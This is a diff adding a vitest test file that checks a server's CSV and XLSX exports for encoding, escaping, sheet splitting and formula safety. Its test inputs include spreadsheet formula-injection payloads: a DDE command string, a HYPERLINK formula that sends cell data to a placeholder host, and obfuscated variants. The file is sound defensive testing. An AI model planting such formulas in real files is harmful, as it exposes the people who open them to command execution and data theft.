@@ -1,0 +1,137 @@
+/** The two kinds of file, read back by programs of others. */
+import { parse } from 'csv-parse/sync';
+import { strFromU8, unzipSync } from 'fflate';
+import { readSheet } from 'read-excel-file/node';
+import { describe, expect, it } from 'vitest';
+import type { Cell } from '../../server/exports/columns.ts';
+import { csvFile } from '../../server/exports/csv-file.ts';
+import type { Rows } from '../../server/exports/table-rows.ts';
+import { xlsxFile } from '../../server/exports/xlsx-file.ts';
+
+const headings = ['주문번호', '금액 (원)', '상품'];
+
+async function* batches(...rows: Cell[][][]): AsyncGenerator<Rows> {
+  for (const some of rows) yield await Promise.resolve({ rows: some, strong: false });
+}
+
+async function csvOf(...rows: Cell[][][]): Promise<string> {
+  let text = '';
+  for await (const piece of csvFile(headings, batches(...rows))) text += piece;
+  return text;
+}
+
+async function xlsxOf(rows: Cell[][][], mostRows?: number): Promise<Buffer> {
+  const table = { name: '결제', widths: [20, 12, 30], headings };
+  const pieces: Uint8Array[] = [];
+  for await (const piece of xlsxFile(table, batches(...rows), mostRows)) pieces.push(piece);
+  return Buffer.concat(pieces);
+}
+
+/** What a spreadsheet would reckon, call or fetch, hidden in all the ways that are known. */
+const formulas = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://trap.invalid/?x="&A1,"열기")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u{3000}=1+1',
+  '\u{a0}=1+1',
+  '\u{200b}=1+1',
+  '\u{feff}=1+1',
+  '\u{feff} \u{200b}@SUM(1,1)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '"=1+1',
+  'a\n=1+1',
+  'a\r\n=1+1',
+  'a;=1+1',
+  'a,=1+1',
+  '";=1+1;"',
+];
+const ACTIVE = /^[\s\u{200b}-\u{200f}\u{2060}\u{feff}]*[=+\-@＝＋－＠]/u;
+
+describe('a CSV file', () => {
+  it('begins with a byte order mark, ends its lines with CRLF, and keeps every text whole', async () => {
+    const rows: Cell[][] = [
+      ['a-1', 10_000, '콤마, "따옴표"\n둘째 줄'],
+      ['a-2', -4000, ''],
+      ['a-3', 0, null],
+    ];
+    const text = await csvOf(rows.slice(0, 1), [], rows.slice(1));
+    expect(text.startsWith('\u{feff}주문번호,금액 (원),상품\r\na-1,10000,')).toBe(true);
+    expect(parse(text, { bom: true })).toEqual([
+      headings,
+      ['a-1', '10000', '콤마, "따옴표"\n둘째 줄'],
+      ['a-2', '-4000', ''],
+      ['a-3', '0', ''],
+    ]);
+  });
+
+  it.each(formulas)('takes no text for a formula: %j', async (formula) => {
+    const text = await csvOf([[formula, -1, formula]]);
+    const given: string[][] = parse(text, { bom: true });
+    expect(given.flat().filter((cell) => ACTIVE.test(cell))).toEqual(['-1']);
+    const [, row] = given;
+    expect(row?.[1]).toBe('-1');
+    expect(row?.[0]?.replace(/^'/, '').trim()).toBe(
+      formula.replace(/^[\s\u{200b}-\u{200f}\u{2060}\u{feff}]+/u, ''),
+    );
+  });
+});
+
+describe('a workbook', () => {
+  it('gives every text and number back as it was', async () => {
+    const rows: Cell[][] = [
+      ['20261124000123456789', 10_000, '<b>&"\'</b>'],
+      ['a-2', -4000, ' 앞뒤 빈칸 '],
+      ['a-3', 0, '줄\n바꿈 😀'],
+      ['_x0041_', null, null],
+    ];
+    const sheet = await readSheet(await xlsxOf([rows.slice(0, 2), rows.slice(2)]), { trim: false });
+    expect(sheet.slice(0, 4)).toEqual([headings, ...rows.slice(0, 3)]);
+  });
+
+  it.each(formulas)('has a text and no formula: %j', async (formula) => {
+    const file = await xlsxOf([[[formula, 1, 'x']]]);
+    const xml = strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
+    expect(xml).not.toMatch(/<f[\s>]/);
+    expect(xml).toMatch(/<c r="A2" s="0" t="inlineStr">/);
+  });
+
+  it('holds nothing that XML can not, and decodes no escape of its own', async () => {
+    const file = await xlsxOf([[['a\u{0}\u{b}\u{ffff}\u{d800}b', 1, '_x0041_']]]);
+    const xml = strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
+    expect(xml).toContain('>ab<');
+    expect(xml).toContain('_x005F_x0041_');
+  });
+
+  it('goes on to another sheet where one is full, each with its headings', async () => {
+    const rows = Array.from({ length: 7 }, (_, n): Cell[] => [`a-${String(n)}`, n, 'x']);
+    const file = await xlsxOf([rows.slice(0, 4), rows.slice(4)], 4);
+    const sheets = await Promise.all(
+      ['결제', '결제 2', '결제 3'].map((name) => readSheet(file, name)),
+    );
+    expect(sheets.map((sheet) => sheet.length)).toEqual([4, 4, 2]);
+    expect(sheets.map(([first]) => first)).toEqual([headings, headings, headings]);
+    expect(sheets.flatMap((sheet) => sheet.slice(1))).toEqual(rows);
+  });
+
+  it('is none where its rows fail midway', async () => {
+    async function* broken(): AsyncGenerator<Rows> {
+      yield await Promise.resolve({ rows: [['a', 1, 'b']], strong: false });
+      throw new Error('the disk is gone');
+    }
+    const table = { name: '결제', widths: [1, 1, 1], headings };
+    const read = async () => {
+      for await (const _piece of xlsxFile(table, broken())) continue;
+    };
+    await expect(read()).rejects.toThrow('the disk is gone');
+  });
+});
